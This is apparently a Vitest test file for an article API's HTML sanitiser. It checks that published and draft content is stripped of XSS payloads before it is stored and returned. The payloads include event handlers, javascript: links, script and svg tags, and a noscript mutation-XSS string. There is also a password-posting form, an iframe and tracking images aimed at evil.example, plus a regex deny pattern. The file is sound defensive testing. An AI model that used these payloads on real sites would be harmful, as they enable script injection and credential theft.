import { ARTICLE_HTML_MAX_LENGTH, ARTICLE_TAGS } from '@creator/forms/rules/article-html';
import { describe, expect, it } from 'vitest';
import { demoServerForFile } from '../testing/demo-server';
import type { TestServer } from '../testing/harness';

// The attack of the finding: hostile article HTML that passed review and came back verbatim from content/detail.

let server: TestServer;
let demo: string;

demoServerForFile((started) => {
  ({ server, demo } = started);
});

const image = (name: string) => `${server.base}/storage/seed/${name}`;
const detail = async (contentId: number) =>
  (
    await server.call('GET', '/mp-api/v3/api/content/detail', {
      token: demo,
      query: { content_id: contentId },
    })
  ).body.data.detail;

/** Images off the image host, and so off the allow-list: the draft carries them (the publish replays the finding, which had none). */
const FOREIGN_IMAGES = `<img src="https://evil.example/track_640_360.png"><img src="data:image/png;base64,iVBORw0KGgo=">`;

function hostileHtml(cover: string, extra = ''): string {
  return [
    `<h2 onclick="alert('h2')" style="color:red" class="headline" id="top" data-track="1">Day one</h2>`,
    `<p>We started before dawn and <a href="javascript:alert('link')">walked until the tide</a> came in.</p>`,
    `<p><img src="${cover}" onerror="alert('img')" alt="The northern coast" width="960" height="540"></p>`,
    `<div style="position:fixed"><ul><li>Pack water</li><li><strong>Check</strong> the tides</li></ul></div>`,
    `<script>alert('script')</script>`,
    `<iframe src="https://evil.example/frame">framed</iframe>`,
    `<form action="https://evil.example/steal"><input name="password" value="secret"><button>Send</button></form>`,
    extra,
    `<svg onload="alert('svg')"><text>vector</text></svg>`,
    // Last: a parser without scripting (the sanitiser's, like a browser's DOMParser) puts what follows inside it.
    `<noscript><p title="</noscript><img src=x onerror=alert('mxss')>"></noscript>`,
  ].join('');
}

/** What the answer must hold: the allowed text and the hosted image, in the allowed elements only. */
function expectOnlyAllowedHtml(html: string, cover: string): void {
  expect(html).not.toMatch(
    /onerror|onclick|onload|<script|javascript:|<iframe|<form|<input|<button|<svg|<noscript|<a\b|<div|style=|class=|\bid=|data-|evil\.example|data:|alert|framed|secret|vector/u,
  );
  const tags = new Set(
    [...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)/gu)].map((match) => (match[1] as string).toLowerCase()),
  );
  expect([...tags].filter((tag) => !(ARTICLE_TAGS as readonly string[]).includes(tag))).toEqual([]);
  expect(html).toContain('<h2>Day one</h2>');
  expect(html).toContain('<p>We started before dawn and walked until the tide came in.</p>');
  expect(html).toContain(`<img src="${cover}" alt="The northern coast" width="960" height="540">`);
  expect(html).toContain('<ul><li>Pack water</li><li><strong>Check</strong> the tides</li></ul>');
  // The form and its controls go, the text written in them stays (issue 32); an input's value is no text.
  expect(html).toContain('</ul>Send');
}

describe('article HTML on the way in', () => {
  it('stores and answers a published article without the hostile parts, keeping the text and the hosted image', async () => {
    const cover = image('ocean_960_540.png');
    const published = await server.call('POST', '/mp-api/v3/api/content/publish', {
      token: demo,
      body: {
        show_type: 1,
        title: 'A long walk along the northern coast',
        content: hostileHtml(cover),
        images: [cover],
        cover_images: [cover],
        hashtag: ['coast'],
      },
    });
    expect(published.body.code).toBe(0);
    const contentId = published.body.data.content_id as number;

    const answered = await detail(contentId);
    expectOnlyAllowedHtml(answered.content, cover);
    expect(answered).toMatchObject({ images: [cover], cover_images: [cover] });
    expect(answered.brief).toBe(
      'Day oneWe started before dawn and walked until the tide came in.Pack waterCheck the tidesSend">',
    );

    const stored = await server.db
      .selectFrom('content')
      .select('content')
      .where('content_id', '=', contentId)
      .executeTakeFirstOrThrow();
    expect(stored.content).not.toMatch(/onerror|<script|javascript:|<iframe|<form|evil\.example|data:/u);
    expect(stored.content).toContain('src="/storage/seed/ocean_960_540.png"');
  });

  it('stores a draft without the hostile parts too, and a draft saved again stays the same', async () => {
    const cover = image('plum_800_800.png');
    const save = (body: Record<string, unknown>) =>
      server.call('POST', '/mp-api/v3/api/content/draft', { token: demo, body });
    const saved = await save({
      title: 'Notes from the coast',
      content: hostileHtml(cover, FOREIGN_IMAGES),
      cover_images: [cover],
    });
    expect(saved.body.code).toBe(0);
    const contentId = saved.body.data.content_id as number;

    const answered = await detail(contentId);
    expectOnlyAllowedHtml(answered.content, cover);
    expect(answered.images).toEqual([cover]);

    // The editor sends the answered HTML back unchanged: sanitising it again changes nothing.
    expect(
      (
        await save({
          content_id: contentId,
          title: 'Notes from the coast',
          content: answered.content,
          cover_images: [cover],
        })
      ).body.code,
    ).toBe(0);
    expect((await detail(contentId)).content).toBe(answered.content);
  });

  it('checks the article rule on what would be stored: a cover whose image the allow-list drops is refused', async () => {
    const cover = image('stone_640_360.png');
    const refused = await server.call('POST', '/mp-api/v3/api/content/publish', {
      token: demo,
      body: {
        show_type: 1,
        title: 'A cover hidden in a template',
        content: `<p>${'Words about the coast. '.repeat(20)}</p><template><img src="${cover}"></template>`,
        images: [cover],
        cover_images: [cover],
        hashtag: [],
      },
    });
    expect([refused.status, refused.body.code]).toEqual([400, 10001]);
  });

  it('keeps every word after a stray frameset or an unclosed form (issue 32)', async () => {
    const saved = await server.call('POST', '/mp-api/v3/api/content/draft', {
      token: demo,
      body: {
        title: 'Imported from the old site',
        content:
          '<p>Before</p><frameset><frame src="https://evil.example/"><p>After the frameset</p>' +
          '<form action="https://evil.example/"><p>Inside a form <button onclick="alert(1)">and its button</button></p>',
      },
    });
    expect(saved.body.code).toBe(0);
    expect((await detail(saved.body.data.content_id as number)).content).toBe(
      '<p>Before</p><p>After the frameset</p><p>Inside a form and its button</p>',
    );
  });

  it('refuses article HTML longer than any the editor writes, before parsing it', async () => {
    const content = `<p>${'<b>x</b>'.repeat(ARTICLE_HTML_MAX_LENGTH / 8)}</p>`;
    const refused = await server.call('POST', '/mp-api/v3/api/content/draft', {
      token: demo,
      body: { title: 'Too much markup', content },
    });
    expect([refused.status, refused.body.code, refused.body.message]).toEqual([
      413,
      10001,
      expect.stringMatching(/^content: /),
    ]);
  });
});
